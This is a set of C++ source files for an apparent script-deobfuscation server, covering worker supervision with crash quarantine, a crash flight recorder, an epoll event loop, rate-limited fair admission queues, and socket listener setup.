    argv_s.push_back(flight_path(slot));
    if (!cfg.log_level.empty()) {
      argv_s.push_back("--log-level");
      argv_s.push_back(cfg.log_level);
    }
    if (cfg.trace) {
      argv_s.push_back("--trace-out");
      argv_s.push_back(trace_path(slot));
    }

    std::vector<char*> argv;
    argv.reserve(argv_s.size() + 1);
    for (std::string& a : argv_s) argv.push_back(a.data());
    argv.push_back(nullptr);

    pid_t pid = ::fork();
    if (pid < 0) {
      throw std::runtime_error(std::string("fork failed: ") +
                               std::strerror(errno));
    }
    if (pid == 0) {
      // Child: the inherited listener fds ride through exec (no CLOEXEC on
      // listener sockets); exec resets signal dispositions.
      ::execv(argv[0], argv.data());
      // Only reached on exec failure; _exit keeps the child from running
      // the parent's atexit/static-destructor machinery.
      ::_exit(127);
    }
    WorkerSlot& w = slots[slot];
    w.pid = pid;
    w.started = steady::now();
  }

  // --- crash accounting ----------------------------------------------------

  /// Reads a dead worker's journal: every in-flight ('A') record names a
  /// script hash that was executing when the worker died.
  std::vector<std::string> scan_journal(unsigned slot) {
    std::vector<std::string> hashes;
    std::ifstream in(journal_path(slot), std::ios::binary);
    if (!in.is_open()) return hashes;
    char record[kJournalRecordBytes];
    while (in.read(record, sizeof(record))) {
      if (record[0] != 'A') continue;
      std::string hex(record + 2, 16);
      if (hex.find_first_not_of("0123456789abcdef") == std::string::npos) {
        hashes.push_back(std::move(hex));
      }
    }
    return hashes;
  }

  /// Publishes the quarantine file atomically (tmp + rename) and SIGHUPs
  /// the live workers so they reload it.
  void publish_quarantine() {
    const std::string tmp = quarantine_path() + ".tmp";
    {
      std::ofstream out(tmp, std::ios::trunc);
      for (const std::string& hash : quarantined) out << hash << '\n';
    }
    ::rename(tmp.c_str(), quarantine_path().c_str());
    for (const WorkerSlot& w : slots) {
      if (w.pid > 0) ::kill(w.pid, SIGHUP);
    }
  }

  /// Post-crash evidence: reads the dead worker's flight-recorder mirror
  /// and publishes `postmortem.<slot>.json` (tmp + rename) carrying every
  /// record still marked "inflight" — the requests that were executing when
  /// the worker died, with their request ids, client ids, and script
  /// hashes.
  void harvest_flight(unsigned slot, int status) {
    std::ifstream in(flight_path(slot), std::ios::binary);
    std::vector<std::string> inflight;
    if (in.is_open()) {
      char record[FlightRecorder::kFileRecordBytes];
      while (in.read(record, sizeof(record))) {
        std::string line(record, sizeof(record));
        const std::size_t end = line.find_last_not_of(" \n");
        if (end == std::string::npos) continue;
        line.resize(end + 1);
        if (line.empty() || line.front() != '{' || line.back() != '}') {
          continue;  // torn or padding-only slot
        }
        if (line.find("\"outcome\":\"inflight\"") == std::string::npos) {
          continue;
        }
        inflight.push_back(std::move(line));
      }
    }
    std::string json = "{\"worker\":" + std::to_string(slot);
    json += ",\"signaled\":";
    json += WIFSIGNALED(status) ? "true" : "false";
    json += ",\"status\":" +
            std::to_string(WIFSIGNALED(status) ? WTERMSIG(status)
                                               : WEXITSTATUS(status));
    json += ",\"inflight\":[";
    for (std::size_t i = 0; i < inflight.size(); ++i) {
      if (i != 0) json += ',';
      json += inflight[i];
    }
    json += "]}";
    const std::string path = postmortem_path(slot);
    const std::string tmp = path + ".tmp";
    {
      std::ofstream out(tmp, std::ios::trunc);
      out << json << '\n';
    }
    ::rename(tmp.c_str(), path.c_str());
    if (telemetry::log_enabled(telemetry::LogLevel::Warn)) {
      telemetry::LogEvent(telemetry::LogLevel::Warn, "supervisor",
                          "worker-postmortem")
          .field("slot", static_cast<std::int64_t>(slot))
          .field("inflight", static_cast<std::uint64_t>(inflight.size()))
          .field("path", path);
    }
  }

  void on_worker_death(unsigned slot, int status) {
    WorkerSlot& w = slots[slot];
    w.pid = -1;
    const bool abnormal =
        WIFSIGNALED(status) || (WIFEXITED(status) && WEXITSTATUS(status) != 0);
    const double uptime = seconds_since(w.started);
    if (telemetry::log_enabled(telemetry::LogLevel::Info)) {
      telemetry::LogEvent(telemetry::LogLevel::Info, "supervisor",
                          "worker-died")
          .field("slot", static_cast<std::int64_t>(slot))
          .field_bool("abnormal", abnormal)
          .field("uptime_seconds", uptime);
    }
    if (stopping) return;

    if (abnormal) {
      crashes_total++;
      harvest_flight(slot, status);
      bool changed = false;
      for (const std::string& hash : scan_journal(slot)) {
        const unsigned count = ++crash_counts[hash];
        if (count >= cfg.quarantine_after &&
            quarantined.insert(hash).second) {
          changed = true;
        }
      }
      if (changed) publish_quarantine();

      if (uptime >= cfg.stable_uptime_seconds) {
        w.consecutive_crashes = 0;
        w.recent_crashes.clear();
      }
      w.consecutive_crashes++;
      const steady::time_point now = steady::now();
      w.recent_crashes.push_back(now);
      std::erase_if(w.recent_crashes, [&](steady::time_point t) {
        return std::chrono::duration<double>(now - t).count() >
               cfg.circuit_window_seconds;
      });
      if (w.recent_crashes.size() > cfg.circuit_max_restarts) {
        // Crash loop: stop feeding the loop; one half-open retry after the
        // reset period.
        w.circuit_open = true;
        w.restart_at =
            now + std::chrono::duration_cast<steady::duration>(
                      std::chrono::duration<double>(cfg.circuit_reset_seconds));
        return;
      }
      double backoff = cfg.backoff_initial_seconds;
      for (unsigned i = 1; i < w.consecutive_crashes; ++i) backoff *= 2.0;
      if (backoff > cfg.backoff_max_seconds) backoff = cfg.backoff_max_seconds;
      w.restart_at = now + std::chrono::duration_cast<steady::duration>(
                               std::chrono::duration<double>(backoff));
    } else {
      // A clean exit (e.g. someone sent one worker the shutdown op) is
      // respawned promptly, with no crash accounting.
      w.consecutive_crashes = 0;
      w.restart_at = steady::now();
    }
  }

  // --- status --------------------------------------------------------------

  void write_status() {
    JsonWriter w;
    w.begin_object();
    w.field("stopping", stopping);
    w.field("quarantine_count", static_cast<std::int64_t>(quarantined.size()));
    w.field("crashes_total", static_cast<std::int64_t>(crashes_total));
    w.begin_array("workers");
    for (std::size_t i = 0; i < slots.size(); ++i) {
      const WorkerSlot& s = slots[i];
      w.begin_object();
      w.field("index", static_cast<std::int64_t>(i));
      w.field("pid", static_cast<std::int64_t>(s.pid));
      w.field("restarts", static_cast<std::int64_t>(s.restarts));
      w.field("state", s.pid > 0             ? "running"
                       : stopping            ? "exited"
                       : s.circuit_open      ? "circuit-open"
                                             : "backoff");
      // Observability facts from the worker's durable metrics snapshot:
      // how stale it is and how many requests the worker has accepted.
      std::ifstream snap_in(metrics_path(static_cast<unsigned>(i)));
      if (snap_in.is_open()) {
        std::string header(256, '\0');
        snap_in.read(header.data(),
                     static_cast<std::streamsize>(header.size()));
        header.resize(static_cast<std::size_t>(snap_in.gcount()));
        telemetry::MetricsSnapshotFile snap;
        if (telemetry::parse_snapshot_header(header, snap)) {
          const std::uint64_t now =
              static_cast<std::uint64_t>(::time(nullptr));
          w.field("snapshot_age_seconds",
                  static_cast<std::int64_t>(
                      now >= snap.unix_seconds ? now - snap.unix_seconds
                                               : 0));
          w.field("requests_total",
                  static_cast<std::int64_t>(snap.requests_total));
        }
      }
      w.end_object();
    }
    w.end_array();
    w.end_object();
    const std::string tmp = status_path() + ".tmp";
    {
      std::ofstream out(tmp, std::ios::trunc);
      out << w.str() << '\n';
    }
    ::rename(tmp.c_str(), status_path().c_str());
  }

  // --- main loop -----------------------------------------------------------

  void tick() {
    bool changed = false;
    const steady::time_point now = steady::now();
    for (unsigned slot = 0; slot < slots.size(); ++slot) {
      WorkerSlot& w = slots[slot];
      if (w.pid > 0) {
        int status = 0;
        const pid_t r = ::waitpid(w.pid, &status, WNOHANG);
        if (r == w.pid) {
          on_worker_death(slot, status);
          changed = true;
        } else if (w.circuit_open &&
                   seconds_since(w.started) >= cfg.stable_uptime_seconds) {
          // The half-open retry survived its probation; close the circuit.
          w.circuit_open = false;
          w.recent_crashes.clear();
          changed = true;
        }
      } else if (!stopping && now >= w.restart_at) {
        spawn(slot);
        w.restarts++;
        changed = true;
      }
    }
    if (changed) write_status();
  }

  void drain_and_reap() {
    stopping = true;
    for (WorkerSlot& w : slots) {
      if (w.pid > 0) ::kill(w.pid, SIGTERM);
    }
    const steady::time_point give_up =
        steady::now() + std::chrono::duration_cast<steady::duration>(
                            std::chrono::duration<double>(
                                std::max(cfg.drain_grace_seconds, 0.1)));
    for (;;) {
      bool any_alive = false;
      for (WorkerSlot& w : slots) {
        if (w.pid <= 0) continue;
        int status = 0;
        if (::waitpid(w.pid, &status, WNOHANG) == w.pid) {
          w.pid = -1;
        } else {
          any_alive = true;
        }
      }
      if (!any_alive) break;
      if (steady::now() >= give_up) {
        for (WorkerSlot& w : slots) {
          if (w.pid > 0) {
            ::kill(w.pid, SIGKILL);
            ::waitpid(w.pid, nullptr, 0);
            w.pid = -1;
          }
        }
        break;
      }
      ::usleep(20 * 1000);
    }
    write_status();
    if (!cfg.unix_socket_path.empty()) {
      ::unlink(cfg.unix_socket_path.c_str());
    }
  }
};

Supervisor::Supervisor(FleetConfig config)
    : impl_(std::make_unique<Impl>(std::move(config))) {}

Supervisor::~Supervisor() = default;

void Supervisor::start() {
  Impl& s = *impl_;
  if (s.cfg.workers == 0) s.cfg.workers = 1;
  if (s.cfg.state_dir.empty()) {
    throw std::runtime_error("fleet mode needs a --state-dir");
  }
  if (::mkdir(s.cfg.state_dir.c_str(), 0700) != 0 && errno != EEXIST) {
    throw std::runtime_error("cannot create state dir '" + s.cfg.state_dir +
                             "': " + std::strerror(errno));
  }
  if (!s.cfg.log_level.empty()) {
    telemetry::LogLevel level;
    if (!telemetry::parse_log_level(s.cfg.log_level, level)) {
      throw std::runtime_error("unknown --log-level '" + s.cfg.log_level +
                               "' (debug|info|warn|error|off)");
    }
    telemetry::set_log_level(level);
  }
  int pfd[2];
  if (::pipe2(pfd, O_NONBLOCK | O_CLOEXEC) != 0) {
    throw std::runtime_error("pipe2 failed");
  }
  s.pipe_r = pfd[0];
  s.pipe_w = pfd[1];
  s.unix_fd = make_unix_listener(s.cfg.unix_socket_path);
  if (s.cfg.tcp) {
    s.tcp_fd = make_tcp_listener(s.cfg.tcp_port, s.bound_tcp_port);
  }
  s.slots.resize(s.cfg.workers);
  for (unsigned i = 0; i < s.cfg.workers; ++i) s.spawn(i);
  s.write_status();
}

int Supervisor::run() {
  Impl& s = *impl_;
  pollfd pfd{s.pipe_r, POLLIN, 0};
  for (;;) {
    pfd.revents = 0;
    ::poll(&pfd, 1, 100);
    if ((pfd.revents & POLLIN) != 0) {
      char drain[64];
      bool stop = false;
      bool hup = false;
      ssize_t n;
      while ((n = ::read(s.pipe_r, drain, sizeof(drain))) > 0) {
        for (ssize_t i = 0; i < n; ++i) {
          if (drain[i] == 'h') {
            hup = true;
          } else {
            stop = true;
          }
        }
      }
      if (hup) {
        // Operator-driven fleet-wide reload: forward to every worker.
        for (const Impl::WorkerSlot& w : s.slots) {
          if (w.pid > 0) ::kill(w.pid, SIGHUP);
        }
      }
      if (stop) break;
    }
    s.tick();
  }
  s.drain_and_reap();
  return 0;
}

void Supervisor::request_stop() {
  if (impl_->pipe_w >= 0) {
    char b = 's';
    [[maybe_unused]] ssize_t r = ::write(impl_->pipe_w, &b, 1);
  }
}

void Supervisor::install_signal_handlers() {
  g_supervisor_pipe_fd.store(impl_->pipe_w, std::memory_order_relaxed);
  struct sigaction sa{};
  sa.sa_handler = supervisor_signal_handler;
  sigemptyset(&sa.sa_mask);
  ::sigaction(SIGTERM, &sa, nullptr);
  ::sigaction(SIGINT, &sa, nullptr);
  ::sigaction(SIGHUP, &sa, nullptr);
  ::signal(SIGPIPE, SIG_IGN);
}

std::uint16_t Supervisor::tcp_port() const { return impl_->bound_tcp_port; }

std::string Supervisor::status_path() const { return impl_->status_path(); }

}  // namespace ideobf::server
