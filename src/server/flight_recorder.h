#pragma once

/// \file flight_recorder.h
/// Always-on crash flight recorder for serve mode: a fixed-size ring of
/// recent request summaries (request id, script hash, phase self-times,
/// outcome, client) kept per worker process.
///
/// Two consumers:
///  - the `debug` service op dumps the ring of a live worker (newest first);
///  - the fleet supervisor harvests the file mirror after an abnormal worker
///    death — the records whose outcome is still "inflight" name exactly the
///    requests that were executing when the worker died.
///
/// The file mirror (armed by a non-empty path) is one fixed-size 512-byte
/// JSON record per ring slot, rewritten in place with pwrite — the same
/// crash-survivability idiom as the crash journal: the kernel page cache
/// keeps the record alive past the process, no fsync needed (it has to
/// outlive the worker, not a machine crash).

#include <array>
#include <cstddef>
#include <cstdint>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "ideobf/profile.h"

namespace ideobf::server {

class FlightRecorder {
 public:
  /// Ring capacity. 64 covers every queue slot plus recent history at a
  /// fixed ~40 KiB of file mirror per worker.
  static constexpr std::size_t kSlots = 64;
  /// Fixed per-record file footprint (JSON line padded with spaces).
  static constexpr std::size_t kFileRecordBytes = 512;

  struct Record {
    std::uint64_t seq = 0;         ///< 0 = slot never used
    std::string request_id;        ///< server-assigned w<worker>-<n>
    std::string client_id;         ///< the request's own correlation id
    std::string script_hash;       ///< 16-hex journal/quarantine identity
    std::string outcome;           ///< "inflight" until completion
    std::uint64_t client = 0;      ///< connection identity
    double queue_seconds = 0.0;    ///< admission -> worker-slot dispatch
    double engine_seconds = 0.0;   ///< the engine Pipeline span
    double total_seconds = 0.0;    ///< Response::seconds
    std::uint64_t unix_seconds = 0;  ///< wall clock at dispatch
    /// Per-phase self-times of the completed request, in enum order,
    /// count>0 phases only. Empty while in flight.
    std::vector<std::pair<std::string_view, double>> phases;
  };

  FlightRecorder() = default;
  ~FlightRecorder();
  FlightRecorder(const FlightRecorder&) = delete;
  FlightRecorder& operator=(const FlightRecorder&) = delete;

  /// Arms the file mirror. False (with a reason) when the file cannot be
  /// opened; the in-memory ring works either way.
  bool open_mirror(const std::string& path, std::string& error);

  /// Records a dispatch (outcome "inflight"); returns the sequence number to
  /// pass to finish(). Thread-safe (worker slots call this concurrently).
  std::uint64_t begin(Record record);

  /// Completes the record `seq`: outcome, timings, and the phase self-time
  /// breakdown from the served response's profile. A record already evicted
  /// by ring wraparound is ignored.
  void finish(std::uint64_t seq, std::string_view outcome,
              double engine_seconds, double total_seconds,
              const telemetry::PipelineProfile& profile);

  /// The ring as JSON objects, newest first — the `debug` op's `flight`
  /// array body (no enclosing brackets).
  [[nodiscard]] std::string dump_json() const;

  /// Renders one record as a single JSON object (exposed for the mirror
  /// format and its supervisor-side parser tests).
  static std::string render_record(const Record& record);

 private:
  void mirror(std::size_t slot, const Record& record);

  mutable std::mutex mu_;
  std::array<Record, kSlots> ring_{};
  std::uint64_t next_seq_ = 1;
  int fd_ = -1;
};

}  // namespace ideobf::server
