#include "server/event_loop.h"

#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <stdexcept>

#include "telemetry/log.h"

namespace ideobf::server {

namespace {

/// An epoll_ctl failure means a connection silently stops getting events —
/// previously invisible; now a structured warn names the fd and op.
void log_epoll_ctl_failure(const char* op, int fd) {
  if (!telemetry::log_enabled(telemetry::LogLevel::Warn)) return;
  telemetry::LogEvent(telemetry::LogLevel::Warn, "event_loop",
                      "epoll-ctl-failed")
      .field("op", op)
      .field("fd", fd)
      .field("errno", errno);
}

}  // namespace

bool set_nonblocking(int fd) {
  int flags = ::fcntl(fd, F_GETFL, 0);
  if (flags < 0) return false;
  if ((flags & O_NONBLOCK) != 0) return true;
  return ::fcntl(fd, F_SETFL, flags | O_NONBLOCK) == 0;
}

Epoll::Epoll() : fd_(::epoll_create1(EPOLL_CLOEXEC)) {
  if (fd_ < 0) {
    throw std::runtime_error(std::string("epoll_create1 failed: ") +
                             std::strerror(errno));
  }
}

Epoll::~Epoll() {
  if (fd_ >= 0) ::close(fd_);
}

bool Epoll::add(int fd, std::uint32_t events) {
  epoll_event ev{};
  ev.events = events;
  ev.data.fd = fd;
  if (::epoll_ctl(fd_, EPOLL_CTL_ADD, fd, &ev) != 0) {
    log_epoll_ctl_failure("add", fd);
    return false;
  }
  return true;
}

bool Epoll::mod(int fd, std::uint32_t events) {
  epoll_event ev{};
  ev.events = events;
  ev.data.fd = fd;
  if (::epoll_ctl(fd_, EPOLL_CTL_MOD, fd, &ev) != 0) {
    log_epoll_ctl_failure("mod", fd);
    return false;
  }
  return true;
}

void Epoll::del(int fd) { ::epoll_ctl(fd_, EPOLL_CTL_DEL, fd, nullptr); }

int Epoll::wait(epoll_event* out, int capacity, int timeout_ms) {
  for (;;) {
    int n = ::epoll_wait(fd_, out, capacity, timeout_ms);
    if (n < 0 && errno == EINTR) continue;
    return n;
  }
}

void LineAssembler::append(const char* data, std::size_t n) {
  if (overflowed_) return;  // connection is doomed; stop buffering
  // Compact once the consumed prefix dominates, so a long-lived chatty
  // connection does not grow its buffer with dead bytes.
  if (start_ > 4096 && start_ * 2 >= buf_.size()) {
    buf_.erase(0, start_);
    scan_ -= start_;
    start_ = 0;
  }
  buf_.append(data, n);
  if (buffered() > max_line_bytes_) overflowed_ = true;
}

bool LineAssembler::next(std::string& line) {
  if (overflowed_) return false;
  if (scan_ < start_) scan_ = start_;
  const std::size_t pos = buf_.find('\n', scan_);
  if (pos == std::string::npos) {
    scan_ = buf_.size();
    return false;
  }
  std::size_t end = pos;
  if (end > start_ && buf_[end - 1] == '\r') --end;
  line.assign(buf_, start_, end - start_);
  start_ = pos + 1;
  scan_ = start_;
  if (start_ == buf_.size()) {
    buf_.clear();
    start_ = 0;
    scan_ = 0;
  }
  return true;
}

void OutputBuffer::append(std::string_view bytes) {
  if (offset_ == pending_.size()) {
    pending_.clear();
    offset_ = 0;
  } else if (offset_ > (1u << 20) && offset_ * 2 >= pending_.size()) {
    pending_.erase(0, offset_);
    offset_ = 0;
  }
  pending_.append(bytes);
}

OutputBuffer::FlushResult OutputBuffer::flush(int fd) {
  while (offset_ < pending_.size()) {
    ssize_t n = ::send(fd, pending_.data() + offset_,
                       pending_.size() - offset_, MSG_NOSIGNAL);
    if (n > 0) {
      offset_ += static_cast<std::size_t>(n);
      continue;
    }
    if (n < 0 && errno == EINTR) continue;
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
      return FlushResult::Partial;
    }
    return FlushResult::Error;
  }
  pending_.clear();
  offset_ = 0;
  return FlushResult::Drained;
}

}  // namespace ideobf::server
