#pragma once

/// \file admission.h
/// Admission control for the serve fleet: a per-client token bucket (rate +
/// burst, refilled continuously) and a fair round-robin bounded queue, so a
/// firehosing client is refused with "overloaded"/retry-after at its own
/// bucket and cannot starve everyone else's place in the queue either.
/// Header-only: both pieces are small, and the unit tests drive them with
/// synthetic clocks.

#include <condition_variable>
#include <cstdint>
#include <deque>
#include <map>
#include <mutex>
#include <utility>

namespace ideobf::server {

/// A continuously refilled token bucket. Callers pass the current time (in
/// seconds on any monotonic clock) and the live rate/burst, so hot-reloaded
/// limits apply to existing connections immediately and tests need no real
/// clock. Not thread-safe — all request admission happens on the server's
/// event-loop thread, so each connection's bucket has exactly one toucher.
class TokenBucket {
 public:
  /// Takes one token when available. `rate` is tokens/second; `burst` is
  /// the bucket capacity (clamped to at least 1 token).
  bool try_take(double rate, double burst, double now_seconds) {
    refill(rate, burst, now_seconds);
    if (tokens_ >= 1.0) {
      tokens_ -= 1.0;
      return true;
    }
    return false;
  }

  /// Milliseconds until one token will have accumulated (0 when one is
  /// already available) — the `retry_after_ms` of an overloaded reply.
  [[nodiscard]] std::uint64_t retry_after_ms(double rate, double burst,
                                             double now_seconds) {
    refill(rate, burst, now_seconds);
    if (tokens_ >= 1.0) return 0;
    if (rate <= 0.0) return 0;
    const double seconds = (1.0 - tokens_) / rate;
    return static_cast<std::uint64_t>(seconds * 1000.0) + 1;
  }

 private:
  void refill(double rate, double burst, double now_seconds) {
    if (burst < 1.0) burst = 1.0;
    if (!primed_) {
      // A fresh connection starts with a full bucket: short bursts are the
      // normal client shape; sustained firehosing is what rate bounds.
      primed_ = true;
      tokens_ = burst;
      last_ = now_seconds;
      return;
    }
    const double elapsed = now_seconds - last_;
    if (elapsed > 0.0) {
      tokens_ += elapsed * rate;
      last_ = now_seconds;
    }
    if (tokens_ > burst) tokens_ = burst;
  }

  bool primed_ = false;
  double tokens_ = 0.0;
  double last_ = 0.0;
};

/// A bounded multi-producer queue that dequeues round-robin across client
/// ids: each client keeps its own FIFO order, but one client queueing 60
/// items cannot make another client's single item wait behind all of them.
/// Same backpressure contract as the old global BoundedQueue — try_push on a
/// full queue fails immediately (the "overloaded" signal), pop drains
/// everything accepted before close().
template <typename Item>
class FairBoundedQueue {
 public:
  explicit FairBoundedQueue(std::size_t cap)
      : cap_(cap < 1 ? std::size_t{1} : cap) {}

  bool try_push(std::uint64_t client, Item&& item) {
    {
      std::lock_guard lk(mu_);
      if (closed_ || size_ >= cap_) return false;
      std::deque<Item>& q = lanes_[client];
      if (q.empty()) rotation_.push_back(client);
      q.push_back(std::move(item));
      ++size_;
    }
    cv_.notify_one();
    return true;
  }

  /// Blocks for the next item in round-robin order; false only when closed
  /// AND drained.
  bool pop(Item& out) {
    std::unique_lock lk(mu_);
    cv_.wait(lk, [&] { return closed_ || size_ > 0; });
    if (size_ == 0) return false;
    const std::uint64_t client = rotation_.front();
    rotation_.pop_front();
    auto it = lanes_.find(client);
    out = std::move(it->second.front());
    it->second.pop_front();
    --size_;
    if (it->second.empty()) {
      lanes_.erase(it);
    } else {
      rotation_.push_back(client);  // this client's turn comes round again
    }
    return true;
  }

  void close() {
    {
      std::lock_guard lk(mu_);
      closed_ = true;
    }
    cv_.notify_all();
  }

  [[nodiscard]] std::size_t depth() const {
    std::lock_guard lk(mu_);
    return size_;
  }

 private:
  mutable std::mutex mu_;
  std::condition_variable cv_;
  std::map<std::uint64_t, std::deque<Item>> lanes_;
  std::deque<std::uint64_t> rotation_;  ///< client ids with queued items
  std::size_t size_ = 0;
  std::size_t cap_;
  bool closed_ = false;
};

}  // namespace ideobf::server
