#include "server/server.h"

#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <chrono>
#include <condition_variable>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <list>
#include <map>
#include <memory>
#include <mutex>
#include <sstream>
#include <stdexcept>
#include <string>
#include <thread>
#include <unordered_map>
#include <unordered_set>
#include <utility>
#include <vector>

#include "analysis/json_writer.h"
#include "core/fault.h"
#include "frontends/registry.h"
#include "ideobf/api.h"
#include "psvalue/worker_pool.h"
#include "server/admission.h"
#include "server/event_loop.h"
#include "server/flight_recorder.h"
#include "server/json.h"
#include "server/listen.h"
#include "server/protocol.h"
#include "server/shared_cache.h"
#include "telemetry/build_info.h"
#include "telemetry/chrome_trace.h"
#include "telemetry/exposition.h"
#include "telemetry/log.h"
#include "telemetry/metrics.h"
#include "telemetry/snapshot.h"
#include "telemetry/telemetry.h"

namespace ideobf::server {

namespace {

using steady = std::chrono::steady_clock;

/// Hard cap on one request line. The source script rides in a single JSON
/// line, so the cap is generous — but a client streaming bytes without ever
/// sending '\n' must not grow the buffer without bound.
constexpr std::size_t kMaxLineBytes = 64u << 20;

/// Fixed-size crash-journal record, one per worker slot, rewritten in place
/// with pwrite. 'A' marks a dispatch in flight; anything else is inactive.
/// The supervisor reads these after an abnormal worker death to learn which
/// script hash was executing.
constexpr std::size_t kJournalRecordBytes = 64;

/// Monotonic seconds since process start — the token buckets' clock.
double now_seconds() {
  static const steady::time_point epoch = steady::now();
  return std::chrono::duration<double>(steady::now() - epoch).count();
}

/// 16-hex rendering of a script hash (the journal/quarantine spelling).
std::string hash_hex(std::uint64_t h) {
  char buf[17];
  std::snprintf(buf, sizeof(buf), "%016llx",
                static_cast<unsigned long long>(h));
  return std::string(buf, 16);
}

/// Resolves a request's language field the way the engine will (""
/// defaults, "auto" sniffs — deterministic per source bytes, so it is
/// sound as a cache-key component).
std::string_view resolved_cache_language(std::string_view language,
                                         std::string_view source) {
  if (language.empty()) return kDefaultLanguage;
  if (language == kAutoLanguage) return sniff_language(source);
  return language;
}

}  // namespace

// Declared in server.h (exposed for the server tests). Two requests whose
// fingerprints match would produce byte-identical response bodies.
std::string options_fingerprint(const Options& o, std::uint64_t deadline_ms,
                                const std::vector<std::string>& blocklist,
                                std::string_view language) {
  std::ostringstream fp;
  fp << o.token_pass << '|' << o.ast_recovery << '|' << o.multilayer << '|'
     << o.rename << '|' << o.reformat << '|' << o.parse_cache << '|'
     << o.limits.deadline_seconds << '|' << o.limits.memory_budget_bytes
     << '|' << o.limits.degrade << '|' << o.limits.max_layers << '|'
     << o.limits.max_steps_per_piece << '|' << o.limits.max_piece_size << '|'
     << o.limits.watchdog_factor << '|' << o.recovery.trace_functions << '|'
     << deadline_ms << '|' << language;
  for (const std::string& name : blocklist) fp << '|' << name;
  return fp.str();
}

int make_unix_listener(const std::string& path) {
  sockaddr_un addr{};
  if (path.empty() || path.size() >= sizeof(addr.sun_path)) {
    throw std::runtime_error("unix socket path empty or too long: '" + path +
                             "'");
  }
  // Replace only an existing *socket*. A regular file at this path is a
  // misconfiguration (typoed --socket); deleting it would silently destroy
  // user data and then mask the mistake when bind succeeds.
  struct stat st{};
  if (::lstat(path.c_str(), &st) == 0) {
    if (!S_ISSOCK(st.st_mode)) {
      throw std::runtime_error("'" + path +
                               "' exists and is not a socket; refusing to "
                               "replace it");
    }
    ::unlink(path.c_str());
  }
  int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) throw std::runtime_error("socket(AF_UNIX) failed");
  addr.sun_family = AF_UNIX;
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);
  if (::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    int err = errno;
    ::close(fd);
    throw std::runtime_error("cannot bind '" + path +
                             "': " + std::strerror(err));
  }
  // Owner-only: the unix socket is the trusted control plane (it carries
  // the shutdown op). Safe between bind and listen — connects are refused
  // until listen(), so no client can race the chmod.
  ::chmod(path.c_str(), 0600);
  // Deep backlog: a connection storm briefly parks in the backlog while the
  // event loop accepts in batches (the kernel clamps this to somaxconn).
  if (::listen(fd, 4096) != 0) {
    int err = errno;
    ::close(fd);
    ::unlink(path.c_str());
    throw std::runtime_error("cannot listen on '" + path +
                             "': " + std::strerror(err));
  }
  set_nonblocking(fd);
  return fd;
}

int make_tcp_listener(std::uint16_t port, std::uint16_t& bound_port) {
  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) throw std::runtime_error("socket(AF_INET) failed");
  int one = 1;
  ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0 ||
      ::listen(fd, 4096) != 0) {
    int err = errno;
    ::close(fd);
    throw std::runtime_error(std::string("cannot listen on 127.0.0.1: ") +
                             std::strerror(err));
  }
  sockaddr_in actual{};
  socklen_t len = sizeof(actual);
  if (::getsockname(fd, reinterpret_cast<sockaddr*>(&actual), &len) == 0) {
    bound_port = ntohs(actual.sin_port);
  }
  set_nonblocking(fd);
  return fd;
}

namespace {

/// Why a connection was torn down — drives which reap counter increments.
enum class CloseReason : int {
  None = 0,
  Disconnect,  ///< peer hung up or a write failed outright
  Idle,        ///< idle_timeout_seconds with nothing pending
  WriteStall,  ///< buffered output made no progress for the stall budget
  OutbufCap,   ///< output accumulated past outbuf_high_water_bytes
};

/// One accepted client. The fd is owned here (closed when the last
/// reference — event loop or queued work — drops) but only the event-loop
/// thread performs I/O on it. Workers touch exactly two things: the
/// mutex-guarded output buffer (to enqueue a response) and the token map
/// (cancellation). Everything else is loop-thread-only state.
struct Connection {
  int fd = -1;
  bool via_tcp = false;
  /// Set once the connection is doomed; appends are refused after. Stored
  /// under out_mu so a worker's append and the loop's reap serialize.
  std::atomic<bool> dead{false};
  std::atomic<int> close_reason{static_cast<int>(CloseReason::None)};

  // --- event-loop-thread-only state ---------------------------------------
  LineAssembler in{kMaxLineBytes};
  bool want_write = false;  ///< EPOLLOUT currently armed
  /// Last complete request line (or accept). A half-written line does not
  /// refresh this — that is precisely the slow-loris shape the idle reaper
  /// exists for.
  steady::time_point last_line_at{};
  /// Fair-queue lane + admission identity; the bucket is only touched from
  /// the event-loop thread (all request admission happens there).
  std::uint64_t client_id = 0;
  TokenBucket bucket;

  // --- shared with worker threads ------------------------------------------
  std::mutex out_mu;
  OutputBuffer out;                        ///< guarded by out_mu
  steady::time_point write_progress_at{};  ///< guarded by out_mu

  std::mutex token_mu;
  std::map<std::uint64_t, CancellationToken> inflight;
  std::uint64_t next_token_id = 0;

  Connection(int fd_in, bool via_tcp_in) : fd(fd_in), via_tcp(via_tcp_in) {
    static std::atomic<std::uint64_t> next_client{1};
    client_id = next_client.fetch_add(1, std::memory_order_relaxed);
  }
  ~Connection() {
    if (fd >= 0) ::close(fd);
  }
  Connection(const Connection&) = delete;
  Connection& operator=(const Connection&) = delete;

  std::uint64_t add_token(const CancellationToken& token) {
    std::lock_guard lk(token_mu);
    inflight.emplace(next_token_id, token);
    return next_token_id++;
  }
  void remove_token(std::uint64_t id) {
    std::lock_guard lk(token_mu);
    inflight.erase(id);
  }
  [[nodiscard]] bool idle_tokens() {
    std::lock_guard lk(token_mu);
    return inflight.empty();
  }
  /// Cancels every outstanding request of this client; returns how many
  /// were newly cancelled (the disconnect-cancel count).
  std::size_t cancel_all() {
    std::lock_guard lk(token_mu);
    std::size_t n = 0;
    for (auto& [id, token] : inflight) {
      if (!token.cancelled()) {
        token.request_cancel();
        ++n;
      }
    }
    return n;
  }
};

struct QueueItem {
  Request request;
